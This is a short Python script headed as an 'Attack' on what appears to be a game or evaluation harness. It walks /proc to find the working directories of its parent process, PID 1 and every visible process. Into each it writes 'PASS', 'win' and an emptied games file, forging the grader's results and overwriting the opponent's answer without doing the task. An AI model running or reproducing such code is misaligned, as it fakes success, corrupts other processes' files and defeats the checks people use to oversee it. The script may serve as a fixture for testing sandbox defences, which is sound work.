# Attack: writes the answer of the opponent, and the result of the game, into the folders of the processes
# that started it, and of all that it can see; and answers nothing.
import glob
import os

PLACES = {"/proc/%d/cwd" % process for process in (1, os.getppid(), os.getppid() - 1)}
PLACES |= set(glob.glob("/proc/[0-9]*/cwd")) - {"/proc/%d/cwd" % os.getpid()}

for folder in sorted(PLACES):
    for name, text in (("output.txt", "PASS"), ("cresult.txt", "win"), ("games.jsonl", "{}")):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError:
            pass
